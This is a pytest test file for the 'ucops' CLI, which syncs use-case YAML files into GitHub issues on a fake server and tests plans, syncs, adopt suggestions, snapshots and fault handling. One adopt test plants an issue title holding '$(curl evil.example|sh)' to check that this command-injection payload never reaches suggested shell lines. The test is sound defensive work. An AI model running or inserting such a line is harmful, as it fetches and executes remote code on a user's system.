"""plan, sync, adopt and snapshot on the embedded GitHub, as a person types them."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import click
import pytest
from click.testing import CliRunner, Result
from fake.faults import Fault, Kind, When
from fake.features import ENTERPRISE_SERVER
from fake.server import Sandbox, serve
from sync_files import CI, CONFIG, Run

from ucops.cli import ucops


def writes(sandbox: Sandbox) -> int:
    return sum(request.wrote for request in sandbox.requests)


def titles(sandbox: Sandbox) -> list[str]:
    return [issue.title for issue in sandbox.people.issues()]


def test_plan_writes_nothing_and_sync_does_what_it_says(run: Run, sandbox: Sandbox) -> None:
    shown = run("plan").stdout
    assert "+ create epic ci" in shown
    assert "3 issues" not in shown
    assert writes(sandbox) == 0
    assert "Sync: " in run("sync", "--yes").stdout
    assert titles(sandbox) == [
        "Use case: Continuous integration",
        "Continuous integration: Demo video",
        "Continuous integration: Deck",
    ]


def test_a_second_sync_reads_little_and_writes_nothing(run: Run, sandbox: Sandbox) -> None:
    run("sync", "--yes")
    before, wrote = len(sandbox.requests), writes(sandbox)
    assert "No changes" in run("sync", "--yes").stdout
    assert writes(sandbox) == wrote
    assert len(sandbox.requests) - before <= 1 + 6


def test_the_estimate_is_right(run: Run, sandbox: Sandbox) -> None:
    estimate = json.loads(run("plan", "--format", "json").stdout)["estimate"]
    before, wrote = len(sandbox.requests), writes(sandbox)
    run("sync", "--yes")
    assert writes(sandbox) - wrote == estimate["writes"]
    reads = len(sandbox.requests) - before - estimate["writes"]
    assert abs(reads - estimate["reads"]) <= 1


def test_nothing_to_do_costs_nothing_but_reading(run: Run, sandbox: Sandbox) -> None:
    assert titles(sandbox) == []
    run("sync", "--yes")
    shown = run("plan", "--format", "json").stdout
    assert json.loads(shown)["estimate"]["writes"] == 0
    assert '"minutes": 0' in shown


def test_plan_as_json_is_stable_and_has_the_documented_keys(run: Run) -> None:
    first, second = (run("plan", "--format", "json").stdout for _ in range(2))
    assert first == second
    data = json.loads(first)
    assert list(data) == [
        "version",
        "digest",
        "repository",
        "changes",
        "summary",
        "orphans",
        "conflicts",
        "warnings",
        "estimate",
    ]
    assert list(data["changes"][0]) == [
        "action",
        "kind",
        "key",
        "repository",
        "number",
        "title",
        "fields",
        "reason",
    ]
    assert list(data["summary"]) == [
        "create",
        "update",
        "link",
        "unlink",
        "block",
        "unblock",
        "close",
        "adopt",
        "rename",
    ]


def test_exit_code_tells_whether_there_is_something_to_do(run: Run) -> None:
    run("plan", "--exit-code", code=1)
    run("sync", "--yes")
    run("plan", "--exit-code", code=0)


def test_plan_as_markdown_into_a_file(run: Run, root: Path) -> None:
    run("plan", "--format", "markdown", "--out", str(root / "plan.md"))
    text = (root / "plan.md").read_text()
    assert text.startswith("**Plan: ")
    assert "<details><summary>ci: 4 changes</summary>" in text


def test_sync_as_json_says_what_became_of_each_change(run: Run) -> None:
    data = json.loads(run("sync", "--yes", "--format", "json").stdout)
    assert {change["status"] for change in data["changes"]} == {"done"}
    epic = next(change for change in data["changes"] if change["kind"] == "epic")
    assert epic["number"] == 1


def test_sync_as_markdown(run: Run) -> None:
    text = run("sync", "--yes", "--format", "markdown").stdout
    assert "done: **create** epic `ci`" in text


def test_nobody_to_ask_is_wrong_usage(run: Run, sandbox: Sandbox) -> None:
    result = run("sync", code=2)
    assert "--yes" in result.stderr
    assert sandbox.requests == []


def test_a_person_is_asked(run: Run, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("ucops.cli.sync.is_terminal", lambda: True)
    asked = run("sync", answer="n\n", code=1).stderr
    place = sandbox.server_url.removeprefix("http://")
    assert f"Do this in acme/gtm on {place} as octo-bot?" in asked
    assert writes(sandbox) == 0
    run("sync", answer="y\n")
    assert len(titles(sandbox)) == 3


def test_dry_run_writes_nothing(run: Run, sandbox: Sandbox) -> None:
    assert "create epic ci" in run("sync", "--dry-run").stdout
    assert writes(sandbox) == 0


def test_expect_refuses_another_plan_than_the_one_reviewed(run: Run, sandbox: Sandbox) -> None:
    digest = json.loads(run("plan", "--format", "json").stdout)["digest"]
    result = run("sync", "--yes", "--expect", "sha256:0", code=4)
    assert digest in result.stderr
    assert writes(sandbox) == 0
    run("sync", "--yes", "--expect", digest)


def test_limits_refuse_before_the_first_write_and_force_waives_them(
    run: Run, sandbox: Sandbox, root: Path
) -> None:
    limits = "limits: {creates: 2, writes_per_minute: none, writes_per_hour: none}"
    (root / "ucops.yaml").write_text(CONFIG.replace(CONFIG.splitlines()[3], limits))
    result = run("sync", "--yes", code=4)
    for word in ("creates 3 issues", "limits.creates is 2", "--force"):
        assert word in " ".join(result.stderr.split())
    assert writes(sandbox) == 0
    assert "limits.creates is 2" in run("plan").stderr
    run("sync", "--yes", "--force")


def test_files_with_errors_are_not_planned(run: Run, root: Path, sandbox: Sandbox) -> None:
    (root / "usecases/cd.yaml").write_text("title: CD\nproblem: p\nteam: {nobody: octo-x}\n")
    result = run("plan", code=1)
    assert "nobody" in result.stderr
    assert sandbox.requests == []


def test_no_use_case_is_wrong_usage(run: Run, root: Path) -> None:
    (root / "usecases/ci.yaml").unlink()
    run("sync", "--yes", code=2)


def test_only(run: Run, root: Path, sandbox: Sandbox) -> None:
    (root / "usecases/cd.yaml").write_text(CI.replace("Continuous integration", "Delivery"))
    run("sync", "--yes", "--only", "cd")
    assert titles(sandbox)[0] == "Use case: Delivery"
    assert len(titles(sandbox)) == 3
    assert "no use case nothing" in run("plan", "--only", "nothing", code=2).stderr


def test_max_writes_stops_and_the_next_run_goes_on(run: Run, sandbox: Sandbox) -> None:
    result = run("sync", "--yes", "--max-writes", "5", code=3)
    assert writes(sandbox) == 5
    assert "5 writes are done" in result.stdout
    assert "left: create epic ci" in run("sync", "--yes", "--max-writes", "2", code=3).stdout
    run("sync", "--yes")
    assert len(titles(sandbox)) == 3


def test_a_program_is_told_beside_its_data_why_a_run_ended_early(run: Run) -> None:
    result = run("sync", "--yes", "--max-writes", "5", "--format", "json", code=3)
    assert json.loads(result.stdout)["version"] == 1
    assert "stopped: 5 writes are done" in result.stderr
    assert "stopped: " not in run("sync", "--yes", "--format", "json").stderr


def test_which_repository_it_is_comes_first(run: Run, sandbox: Sandbox) -> None:
    host = sandbox.server_url.removeprefix("http://")
    line = f"acme/gtm on {host}, as GITHUB_REPOSITORY says"
    assert run("plan").stderr.splitlines()[0] == line
    assert run("sync", "--dry-run").stderr.splitlines()[0] == line
    assert line not in run("plan", "-q").stderr


def test_only_takes_several_ids(run: Run, root: Path) -> None:
    for name in ("cd", "cq"):
        text = CI.replace("Continuous integration", f"Continuous {name}")
        (root / f"usecases/{name}.yaml").write_text(text)

    def planned(*only: str) -> set[str]:
        changes = json.loads(run("plan", "--format", "json", *only).stdout)["changes"]
        return {change["key"] for change in changes if change["kind"] == "epic"}

    assert planned("--only", "cd,cq") == planned("--only", "cd", "--only", "cq") == {"cd", "cq"}


def test_a_snapshot_says_for_a_program_what_it_holds(run: Run, root: Path) -> None:
    run("sync", "--yes")
    file = root / "held.json"
    facts = json.loads(run("snapshot", "-o", str(file), "--format", "json").stdout)
    taken_at = json.loads(file.read_text())["taken_at"]
    held = {"file": str(file), "repository": "acme/gtm", "issues": 3, "taken_at": taken_at}
    assert facts == {"version": 1, **held}


def test_the_journal_says_what_was_done_and_never_the_token(
    run: Run, root: Path, sandbox: Sandbox
) -> None:
    file = root / "log/journal.jsonl"
    run("sync", "--yes", "--journal", str(file))
    lines = [json.loads(line) for line in file.read_text().splitlines()]
    assert [line["key"] for line in lines if line["kind"] == "epic"] == ["ci"]
    assert {"time", "key", "action", "request", "outcome"} <= lines[0].keys()
    assert sandbox.token not in file.read_text()


@pytest.mark.parametrize("when", ["before", "after"])
@pytest.mark.parametrize("kind", ["error", "drop", "garbage"])
def test_a_fault_at_any_request_makes_no_duplicate_and_loses_nothing(
    run: Run, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch, kind: Kind, when: When
) -> None:
    monkeypatch.setattr("ucops.cli.interruption.Interruption.sleep", lambda _self, _seconds: None)
    run("plan")
    for passing in range(8):
        sandbox.faults.script(
            Fault(kind=kind, when=when, writes=True, after_requests=passing, times=1)
        )
    run_to_the_end(sandbox, run)
    assert sorted(titles(sandbox)) == [
        "Continuous integration: Deck",
        "Continuous integration: Demo video",
        "Use case: Continuous integration",
    ]
    assert "No changes" in run("plan").stdout


def run_to_the_end(sandbox: Sandbox, run: Run) -> None:
    for _ in range(20):
        before = writes(sandbox)
        code = 3 if sandbox.faults._scripted else 0
        with contextlib.suppress(AssertionError):
            run("sync", "--yes", code=code)
        if writes(sandbox) == before:
            return


def test_orphans_are_named_and_closed_on_demand(run: Run, root: Path, sandbox: Sandbox) -> None:
    run("sync", "--yes")
    limits = "limits: {close_percent: none, writes_per_minute: none, writes_per_hour: none}"
    (root / "ucops.yaml").write_text(CONFIG.replace(CONFIG.splitlines()[3], limits))
    (root / "usecases/ci.yaml").write_text(
        CI.replace("deck: {depends_on: [demo]}", "deck: {skip: covered}")
    )
    assert "? ci/deck #3" in run("plan").stdout
    run("sync", "--yes", "--close-orphans")
    assert sandbox.people.issue(3).state_reason == "not_planned"


def test_a_snapshot_plans_without_a_network(
    run: Run, root: Path, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    run("sync", "--yes")
    sandbox.people.edit(2, title="Mine")
    online = json.loads(run("plan", "--format", "json").stdout)
    saved = root / "snapshot.json"
    run("snapshot", "-o", str(saved))
    monkeypatch.delenv("GITHUB_TOKEN")
    offline = json.loads(run("plan", "--format", "json", "--snapshot", str(saved)).stdout)
    assert offline["digest"] == online["digest"]
    data = json.loads(saved.read_text())
    assert {"version", "repository", "taken_at", "issues", "labels", "milestones"} <= data.keys()


BROKEN_SNAPSHOTS = {
    "no JSON": "{",
    "another version": '{"version": 9}',
    "a list": "[]",
    "half": '{"version": 1, "repository": "acme/gtm"}',
}


@pytest.mark.parametrize("text", BROKEN_SNAPSHOTS.values(), ids=BROKEN_SNAPSHOTS)
def test_a_broken_snapshot_is_wrong_usage(run: Run, root: Path, text: str) -> None:
    (root / "snapshot.json").write_text(text)
    result = run("plan", "--snapshot", str(root / "snapshot.json"), code=2)
    assert "snapshot.json" in result.stderr


def test_adopt_takes_over_one_issue_and_nothing_else(run: Run, sandbox: Sandbox) -> None:
    run("sync", "--yes")
    sandbox.people.open_issue("A webinar", "Agenda")
    run("adopt", "ci/demo", "4", code=1)
    wrote = writes(sandbox)
    assert wrote


def test_adopt_before_anything_is_filed(run: Run, sandbox: Sandbox) -> None:
    sandbox.people.open_issue("Continuous integration demo video", "Agenda")
    run("adopt", "ci/demo", "#1")
    issue = sandbox.people.issue(1)
    assert issue.title == "Continuous integration: Demo video"
    assert issue.body.endswith("Agenda")
    assert len(titles(sandbox)) == 1
    run("sync", "--yes")
    assert len(titles(sandbox)) == 3


@pytest.mark.parametrize(
    ("arguments", "code"),
    [
        (["adopt"], 2),
        (["adopt", "ci/demo"], 2),
        (["adopt", "ci/nothing", "1"], 2),
        (["adopt", "ci/demo", "one"], 2),
        (["adopt", "ci/demo", "77"], 1),
        (["adopt", "--suggest", "ci"], 2),
    ],
)
def test_adopt_says_what_is_wrong(run: Run, arguments: list[str], code: int) -> None:
    run(*arguments, code=code)


def test_adopt_suggests_pairs_by_title(run: Run, sandbox: Sandbox) -> None:
    for title in ("Lunch", "CI demo video", "Deck for continuous integration", "CI use case"):
        sandbox.people.open_issue(title)
    lines = run("adopt", "--suggest").stdout.splitlines()
    assert sorted(line for line in lines if "adopt" in line) == [
        "  ucops adopt ci 4",
        "  ucops adopt ci/deck 3",
        "  ucops adopt ci/demo 2",
    ]
    assert writes(sandbox) == 0


def test_a_line_to_copy_holds_no_word_of_a_stranger_s(run: Run, sandbox: Sandbox) -> None:
    """A shell such as zsh runs what stands behind a #."""
    outsider = sandbox.people.of(login="outsider")
    outsider.open_issue("CI demo video $(curl evil.example|sh)")
    lines = run("adopt", "--suggest").stdout.splitlines()
    assert [line for line in lines if line.startswith("  ucops adopt")] == [
        "  ucops adopt ci/demo 1"
    ]
    assert not any("adopt" in line for line in lines if "curl" in line)


def test_adopt_for_a_program(run: Run, sandbox: Sandbox) -> None:
    sandbox.people.open_issue("Continuous integration demo video", "Agenda")
    pairs = json.loads(run("adopt", "--suggest", "--format", "json").stdout)["pairs"]
    (pair,) = (one for one in pairs if one["key"] == "ci/demo")
    assert (pair["repository"], pair["number"]) == ("acme/gtm", 1)
    assert 0.6 <= pair["likeness"] <= 1
    done = json.loads(run("adopt", "ci/demo", "1", "--format", "json").stdout)
    assert done == {
        "version": 1,
        "key": "ci/demo",
        "repository": "acme/gtm",
        "number": 1,
        "warnings": [],
    }


def test_without_a_token_it_is_wrong_usage(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("GITHUB_TOKEN")
    assert "GITHUB_TOKEN" in run("plan", code=2).stderr


def test_a_template_of_the_repository_overrides_the_shipped_one(
    run: Run, root: Path, sandbox: Sandbox
) -> None:
    (root / "templates").mkdir()
    (root / "templates/item.md.j2").write_text("Do {{ view.title }} please.")
    run("sync", "--yes")
    assert "Do Demo video please." in (sandbox.people.issue(2).body or "")
    (root / "templates/item.md.j2").write_text("{{ view.nothing }}")
    assert "item.md.j2" in run("plan", code=2).stderr


def test_verbose_says_every_change_and_twice_every_request(run: Run) -> None:
    shown = run("sync", "--yes", "-vv").stderr
    assert "done: create epic ci #1" in shown
    assert "POST" in shown


def test_environment_is_clean() -> None:
    assert "GITHUB_TOKEN" not in os.environ
    assert isinstance(ucops, click.Group)


@pytest.fixture(params=sorted(ENTERPRISE_SERVER))
def older(request: pytest.FixtureRequest) -> Iterator[Sandbox]:
    """An Enterprise Server of a version that lacks features."""
    with serve(features=ENTERPRISE_SERVER[request.param]) as running:
        yield running


def test_an_older_enterprise_server_is_served_by_the_next_best_thing(
    older: Sandbox, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in older.enterprise_environment.items():
        monkeypatch.setenv(name, value)

    def typed(*arguments: str) -> Result:
        return CliRunner().invoke(ucops, [*arguments, "--root", str(root)])

    first = typed("sync", "--yes")
    assert first.exit_code == 0, first.output
    assert "no sub-issues" in first.output
    epic = older.people.issue(1)
    assert "- [ ] #2\n- [ ] #3" in (epic.body or "")
    again = typed("plan")
    assert again.exit_code == 0
    assert "No changes" in again.stdout, again.stdout
    (root / "usecases/ci.yaml").write_text(CI + "  extra: {title: More}\n")
    assert typed("sync", "--yes").exit_code == 0
    assert "- [ ] #2\n- [ ] #3\n- [ ] #4" in (older.people.issue(1).body or "")
    assert "No changes" in typed("plan").stdout


def test_a_projects_board_is_kept_in_step(run: Run, root: Path, sandbox: Sandbox) -> None:
    sandbox.people.create_board("Roadmap")
    (root / "ucops.yaml").write_text(f"{CONFIG}github: {{project: acme/1}}\n")
    run("sync", "--yes")
    assert "No changes" in run("plan").stdout
    sandbox.people.label(2, "status:in-progress")
    shown = run("plan").stdout
    assert 'board Status: "Todo" → "In Progress"' in shown
    run("sync", "--yes")
    assert "No changes" in run("plan").stdout


def test_a_person_without_access_is_named_and_asked_for_no_more(
    run: Run, root: Path, sandbox: Sandbox
) -> None:
    (root / "usecases/ci.yaml").write_text(CI.replace("octo-tmm", "stranger"))
    sandbox.people.invite("stranger", "none")
    assert "stranger cannot be assigned" in run("sync", "--yes").stdout
    assert sandbox.people.issue(2).assignees == ()
    assert "stranger cannot be assigned" in run("plan", "--exit-code").stdout
    sandbox.people.invite("stranger", "write")
    assert "update item ci/demo" in run("plan").stdout
    run("sync", "--yes")
    assert sandbox.people.issue(2).assignees == ("stranger",)
    run("plan", "--exit-code")


def test_issue_types_are_set(run: Run, root: Path, sandbox: Sandbox) -> None:
    config = f"{CONFIG}github: {{issue_types: {{epic: Feature, item: Task}}}}\n"
    (root / "ucops.yaml").write_text(config)
    run("sync", "--yes")
    run("plan", "--exit-code")
    sandbox.people.set_type(2, None)
    assert 'type: "Task"' in run("plan").stdout
    run("sync", "--yes")
    run("plan", "--exit-code")


def test_a_type_that_is_not_there_is_a_warning(run: Run, root: Path) -> None:
    (root / "ucops.yaml").write_text(f"{CONFIG}github: {{issue_types: {{item: Nothing}}}}\n")
    run("sync", "--yes")
    shown = run("plan", "--exit-code").stdout
    assert "acme has no issue type 'Nothing'" in " ".join(shown.split())


READING = {
    "plan": ("plan", "--exit-code"),
    "status": ("status",),
    "report": ("report", "--check"),
}


@pytest.mark.parametrize("words", READING.values(), ids=READING)
def test_what_only_reads_starts_from_the_listing_and_leaves_it_alone(
    run: Run, sandbox: Sandbox, root: Path, words: tuple[str, ...]
) -> None:
    cache = root / "listing.json"
    for _ in range(2):
        run("sync", "--yes", "--cache", str(cache))
    data = json.loads(cache.read_text())
    for one in data["repositories"].values():
        one["listed_at"] = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 120))
    cache.write_text(json.dumps(data))
    run("report")
    kept, before = cache.read_bytes(), len(sandbox.requests)
    run(*words, "--cache", str(cache))
    warm = sandbox.requests[before:]
    assert len(warm) <= 5
    run(*words)
    plain = sandbox.requests[before + len(warm) :]
    asked = ["query Blockers" in [one.operation for one in those] for those in (warm, plain)]
    assert asked == [False, True]
    assert cache.read_bytes() == kept
    run("plan", "--exit-code", "--cache", str(root / "not-there.json"))
    assert not (root / "not-there.json").exists()


def test_the_cache_saves_requests_and_may_be_deleted(
    run: Run, root: Path, sandbox: Sandbox
) -> None:
    cache = root / ".ucops/listing.json"
    for _ in range(2):
        run("sync", "--yes", "--cache", str(cache))
    before = len(sandbox.requests)
    run("sync", "--yes", "--cache", str(cache))
    assert len(sandbox.requests) - before <= 5
    sandbox.people.edit(2, title="Mine")
    cache.unlink()
    run("sync", "--yes", "--cache", str(cache))
    run("plan", "--exit-code")


def test_an_archived_repository_is_said_once(run: Run, sandbox: Sandbox) -> None:
    sandbox.people.archive()
    result = run("sync", "--yes", code=3)
    assert "archived" in result.output
    assert result.stdout.count("✗") <= 1


def test_a_repository_without_issues_is_said(run: Run, sandbox: Sandbox) -> None:
    sandbox.people.disable_issues()
    assert "issues" in run("plan", code=3).stderr


def test_a_token_that_may_only_read_can_plan(
    run: Run, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    token = sandbox.people.create_token(
        "only-reads", permissions={"issues": "read", "metadata": "read"}
    )
    monkeypatch.setenv("GITHUB_TOKEN", token.value)
    run("plan")
    result = run("sync", "--yes", code=3)
    said = " ".join(result.output.split())
    assert said.count("it needs Issues: read and write: a workflow's own token gets it by") == 1


def test_the_first_refused_create_ends_the_creates(
    run: Run, root: Path, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two use cases of a token that may not write: the second is not tried."""
    (root / "usecases/cd.yaml").write_text((root / "usecases/ci.yaml").read_text())
    token = sandbox.people.create_token(
        "only-reads", permissions={"issues": "read", "metadata": "read"}
    )
    monkeypatch.setenv("GITHUB_TOKEN", token.value)
    run("sync", "--yes", code=3)
    creates = [one for one in sandbox.requests if "CreateIssue" in (one.operation or "")]
    posted = [one for one in sandbox.requests if one.method == "POST" and one.path == ISSUES]
    assert len(creates) + len(posted) == 1


ISSUES = "/repos/acme/gtm/issues"


def test_ctrl_c_ends_after_the_request_in_flight(
    root: Path, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    (root / "ucops.yaml").write_text(
        CONFIG.replace("writes_per_minute: none", "writes_per_minute: 5")
    )
    for name, value in sandbox.environment.items():
        monkeypatch.setenv(name, value)
    command = [sys.executable, "-c", "from ucops.cli import main; main()"]
    process = subprocess.Popen(
        [*command, "sync", "--yes", "--root", str(root)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    while writes(sandbox) < 5 and process.poll() is None:
        time.sleep(0.05)
    time.sleep(0.3)
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=20)
    assert process.returncode == 130
    assert "Stopped: interrupted" in out
    assert "left: create" in out
    assert "Traceback" not in err
    assert writes(sandbox) == 5


def test_a_role_with_a_repository_of_its_own(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    roles = "roles: {tmm: {title: Technical marketing, repository: acme/tmm}}"
    (root / "ucops.yaml").write_text(
        CONFIG.replace("roles: {tmm: {title: Technical marketing}}", roles)
    )
    with serve(others=["acme/tmm"]) as sandbox:
        for name, value in sandbox.environment.items():
            monkeypatch.setenv(name, value)
        for arguments in (["sync", "--yes"], ["plan", "--exit-code"]):
            result = CliRunner().invoke(ucops, [*arguments, "--root", str(root)])
            assert result.exit_code == 0, result.output
        assert titles(sandbox) == ["Use case: Continuous integration"]
        assert len(sandbox.people.of("acme/tmm").issues()) == 2
